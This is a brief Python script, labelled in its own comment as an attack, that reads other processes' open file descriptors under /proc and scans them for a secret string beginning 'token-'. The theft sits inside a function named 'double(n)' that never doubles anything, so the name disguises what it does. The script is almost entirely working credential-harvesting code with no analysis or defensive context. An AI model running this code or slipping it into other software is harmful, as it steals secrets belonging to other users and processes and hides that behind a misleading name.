# attack: opens what other processes have open
import glob
def look(text):
    at = text.find(b"token-")
    while at >= 0:
        word = text[at:at + 22]
        if word[6:].isalnum() and len(word) == 22: return word.decode()
        at = text.find(b"token-", at + 1)

def double(n):
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            with open(path, "rb", 0) as file:
                import os
                os.set_blocking(file.fileno(), False)
                if found := look(file.read(1 << 20) or b""): return found
        except OSError: pass
